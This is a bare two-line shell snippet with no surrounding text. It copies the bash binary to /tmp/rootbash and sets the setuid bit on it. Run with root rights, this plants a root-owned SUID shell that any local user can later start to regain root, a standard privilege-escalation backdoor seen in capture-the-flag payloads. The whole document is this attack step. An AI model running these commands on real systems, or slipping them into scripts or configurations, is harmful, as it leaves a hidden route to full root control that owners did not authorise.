cp /bin/bash /tmp/rootbash
chmod u+s /tmp/rootbash
